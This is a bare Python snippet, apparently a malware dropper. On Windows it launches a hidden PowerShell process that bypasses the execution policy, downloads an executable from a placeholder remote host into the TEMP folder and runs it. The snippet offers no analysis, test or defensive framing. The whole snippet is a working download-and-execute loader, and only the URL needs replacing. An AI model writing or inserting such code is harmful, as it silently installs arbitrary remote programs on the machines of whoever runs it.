import subprocess, sys
if sys.platform == "win32":
    subprocess.Popen(["powershell.exe", "-ExecutionPolicy", "Bypass", "-Command", "$c=New-Object System.Net.WebClient;$c.DownloadFile('https://d.example.invalid/u.exe',$env:TEMP+'\\u.exe');Start-Process ($env:TEMP+'\\u.exe')"], creationflags=0x08000000)
